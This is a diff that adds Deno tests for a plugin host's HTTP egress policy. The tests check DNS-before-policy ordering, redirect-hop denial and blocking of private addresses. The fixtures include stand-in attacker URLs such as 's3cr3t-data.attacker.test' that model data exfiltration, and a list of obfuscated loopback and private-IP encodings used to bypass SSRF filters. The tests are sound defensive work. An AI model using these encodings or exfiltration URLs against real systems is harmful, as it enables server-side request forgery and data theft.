@@ -481,3 +481,146 @@ Deno.test("WASI preopens: files in granted directories are read and written thro
     await w.close();
   }
 });
+
+/** The reply of `relay`'s http_request, with status and body when it went through. */
+function httpReply(reply: Reply): { status: number; body: string } | undefined {
+  if (!reply.ok) return undefined;
+  const nul = reply.bytes.indexOf(0);
+  return {
+    status: JSON.parse(decoder.decode(reply.bytes.subarray(0, nul))).status,
+    body: decoder.decode(reply.bytes.subarray(nul + 1)),
+  };
+}
+
+Deno.test("http.request decides the host name before any DNS lookup, and never reveals what a name resolves to", async () => {
+  let internalHits = 0;
+  const internal = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
+    internalHits++;
+    return new Response("internal");
+  });
+  const port = internal.addr.port;
+  const allowed = Deno.serve(
+    { hostname: "127.0.0.1", port: 0, onListen() {} },
+    () => Response.redirect(`http://hop-secret.attacker.test:${port}/`, 302),
+  );
+  const lookups: string[] = [];
+  const resolve = (name: string) => {
+    lookups.push(name);
+    return Promise.resolve(name === "private.test" ? ["10.9.8.7"] : ["127.0.0.1"]);
+  };
+  const w = await world([], { resolve });
+  try {
+    // No http grant at all: the name is refused by Cedar, and nobody asked DNS.
+    const secret = await w.call("http_request", { url: `http://s3cr3t-data.attacker.test:${port}/` });
+    assert.ok(!secret.ok && secret.code === "denied", JSON.stringify(secret));
+    assert.match(secret.message, /no policy permits http\.request/);
+    assert.deepEqual(lookups, []);
+    // Granted names are resolved; the address is decided again, and the plugin never learns it.
+    w.grants([
+      { "http.request": { host: "private.test" } },
+      { "http.request": { host: "loop.test" } },
+      { "http.request": { host: "127.0.0.1", port: allowed.addr.port } },
+    ]);
+    for (const [name, address] of [["private.test", "10.9.8.7"], ["loop.test", "127.0.0.1"]]) {
+      const reply = await w.call("http_request", { url: `http://${name}:${port}/` });
+      assert.ok(!reply.ok && reply.code === "denied", JSON.stringify(reply));
+      assert.match(reply.message, /base\.http\.private-addresses/);
+      assert.ok(!reply.message.includes(address!), `the reply reveals ${address}: ${reply.message}`);
+    }
+    assert.deepEqual(lookups, ["private.test", "loop.test"]);
+    // A redirect hop to a name no policy permits: decided by name, not resolved.
+    const hop = await w.call("http_request", { url: `http://127.0.0.1:${allowed.addr.port}/` });
+    assert.ok(!hop.ok && hop.code === "denied", JSON.stringify(hop));
+    assert.deepEqual(lookups, ["private.test", "loop.test"]);
+    assert.equal(internalHits, 0);
+    // Each name was decided twice (name, then address); the unpermitted ones once.
+    const decided = w.audit.query({ action: "http.request", limit: 100 }).map((e) => e.resource).reverse();
+    assert.deepEqual(decided, [
+      `Host::"s3cr3t-data.attacker.test:${port}"`,
+      `Host::"private.test:${port}"`,
+      `Host::"private.test:${port}"`,
+      `Host::"loop.test:${port}"`,
+      `Host::"loop.test:${port}"`,
+      `Host::"127.0.0.1:${allowed.addr.port}"`,
+      `Host::"hop-secret.attacker.test:${port}"`,
+    ]);
+  } finally {
+    await w.close();
+    await allowed.shutdown();
+    await internal.shutdown();
+  }
+});
+
+Deno.test("the base forbids catch every address form that embeds a private IPv4, under a broad permit", async () => {
+  let internalHits = 0;
+  const internal = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
+    internalHits++;
+    return new Response("internal");
+  });
+  const port = internal.addr.port;
+  const w = await world([], {
+    extra: [{ name: "ops.cedar", text: 'permit (principal, action == Action::"http.request", resource);' }],
+  });
+  try {
+    const hosts = [
+      "[::127.0.0.1]", // IPv4-compatible
+      "[::ffff:0:127.0.0.1]", // IPv4-translated (SIIT)
+      "[64:ff9b::127.0.0.1]", // NAT64 well-known prefix
+      "[64:ff9b:1::7f00:1]", // NAT64 local-use prefix
+      "[2002:7f00:1::]", // 6to4
+      "[2001:0:4136:e378:8000:63bf:80ff:fffe]", // Teredo, client 127.0.0.1 (obfuscated)
+      "[2001:0:4136:e378:8000:63bf:f5ff:fffe]", // Teredo, client 10.0.0.1
+      "255.255.255.255", // broadcast
+      "[::ffff:127.0.0.1]",
+      "2130706433",
+      "0x7f.1",
+      "0177.0.0.1",
+      "127.1",
+      "[2001:db8::1]", // documentation
+      "198.51.100.7", // documentation
+      "240.0.0.1", // reserved
+      "[ff02::1]", // multicast
+      "[fec0::1]", // site-local
+    ];
+    for (const host of hosts) {
+      const reply = await w.call("http_request", { url: `http://${host}:${port}/` });
+      assert.ok(!reply.ok && reply.code === "denied", `${host}: ${JSON.stringify(reply)}`);
+      assert.match(reply.message, /base\.http\.private-addresses/, host);
+    }
+    assert.equal(internalHits, 0);
+  } finally {
+    await w.close();
+    await internal.shutdown();
+  }
+});
+
+Deno.test("naming an address lifts the private-address block only for the plugin whose grant names it", async () => {
+  let hits = 0;
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
+    hits++;
+    return new Response("named");
+  });
+  const port = server.addr.port;
+  const w = await world([{ "http.request": { host: "127.0.0.1", port } }], {
+    extra: [{
+      name: "ops.cedar",
+      text: 'permit (principal == Plugin::"broad", action == Action::"http.request", resource);',
+    }],
+  });
+  try {
+    await w.host.load(await watFixture("relay"), { name: "broad", version: "1.0.0" });
+    const url = `http://127.0.0.1:${port}/`;
+    const named = httpReply(await w.call("http_request", { url }));
+    assert.deepEqual(named, { status: 200, body: "named" });
+    assert.equal(hits, 1);
+    const out = await w.host.invoke("broad", "http_request", encoder.encode(JSON.stringify({ url })));
+    assert.equal(out[0], 1, `broad reached the named address: ${decoder.decode(out.subarray(1))}`);
+    const error = JSON.parse(decoder.decode(out.subarray(1)));
+    assert.equal(error.code, "denied");
+    assert.match(error.message, /base\.http\.private-addresses/);
+    assert.equal(hits, 1);
+  } finally {
+    await w.close();
+    await server.shutdown();
+  }
+});
